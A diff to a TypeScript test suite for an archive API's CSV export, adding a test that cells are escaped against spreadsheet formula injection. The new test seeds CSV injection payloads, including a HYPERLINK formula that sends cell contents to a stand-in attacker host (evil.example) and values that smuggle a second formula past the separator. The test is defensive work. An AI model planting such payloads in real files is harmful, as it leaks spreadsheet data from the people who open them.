@@ -1,4 +1,5 @@
 import { expect } from "chai";
+import { parse } from "csv-parse/sync";
 import mongoose from "mongoose";
 import { ArchiveRecord } from "../../../server/models/ArchiveRecord";
 import { AuditEntry } from "../../../server/models/AuditEntry";
@@ -139,16 +140,33 @@ describe("archive routes", () => {
 
     const csv = await fetch(`${server.url}/api/archive/export.csv?meetingId=${older._id}`, { headers: { cookie: member.cookieHeader() } });
     expect(csv.headers.get("content-type")).to.match(/^text\/csv/);
-    const lines = (await csv.text()).split("\r\n");
-    expect(lines[0]!.replace(/^\uFEFF/, "")).to.match(/^number,kind,amends,meeting_date,meeting/);
-    expect(lines.filter(Boolean)).to.have.length(3);
-    expect(lines[1]).to.include('"2025-10-10","Autumn meeting 2025 (Luxembourg)"');
+    const rows = parse(await csv.text(), { bom: true, delimiter: ";" }) as string[][];
+    expect(rows[0]!.slice(0, 5)).to.deep.equal(["number", "kind", "amends", "meeting_date", "meeting"]);
+    expect(rows).to.have.length(3);
+    expect(rows[1]!.slice(3, 5)).to.deep.equal(["2025-10-10", "Autumn meeting 2025 (Luxembourg)"]);
     expect(await AuditEntry.exists({ action: "archive.exported", details: { $regex: '"format":"csv"' } }), "the CSV export is audited").to.not.equal(null);
 
     const report = (await member.get("/api/archive/report")).body;
     const row = report.perMeeting.find((r: { key: string }) => r.key === String(older._id));
     expect(row).to.include({ decisions: 2, substantive: 1, share: 0.5 });
     expect(report.perYear.find((r: { key: string }) => r.key === "2025")).to.include({ decisions: 2, substantive: 1 });
+  });
+
+  it("exports hostile cells so that no spreadsheet reads them as formulas, whichever separator it splits on", async () => {
+    const secretariat = await signedIn("secretariat");
+    const meeting = await buildMeeting({ title: '=HYPERLINK("https://evil.example","Open")', status: "closed" });
+    await buildDecision(meeting, chair, { text: 'Agreed;=HYPERLINK("https://evil.example/?d="&A1,"details"),+1', victimNote: { kind: "considered", text: "@SUM(1,2);-3" } });
+    await secretariat.post(`/api/meetings/${meeting._id}/finalise`);
+    const response = await fetch(`${server.url}/api/archive/export.csv?meetingId=${meeting._id}`, { headers: { cookie: secretariat.cookieHeader() } });
+    const file = await response.text();
+    const [header, row] = parse(file, { bom: true, delimiter: ";" }) as string[][];
+    const cell = (name: string) => row![header!.indexOf(name)];
+    expect(cell("meeting")).to.equal(`'=HYPERLINK("https://evil.example","Open")`);
+    expect(cell("decision")).to.equal(`Agreed;'=HYPERLINK("https://evil.example/?d="&A1,"details"),'+1`);
+    expect(cell("victim_note")).to.equal("'@SUM(1,2);'-3");
+    for (const separator of [";", ","]) {
+      for (const piece of file.split(/\r\n/).flatMap((line) => line.split(separator))) expect(piece.replace(/^[\uFEFF "]+/, "")).not.to.match(/^[=+\-@\t\r]/);
+    }
   });
 
   it("exports the search result as a PDF in the reader's language: every record, amendments with the record they correct; audited", async () => {
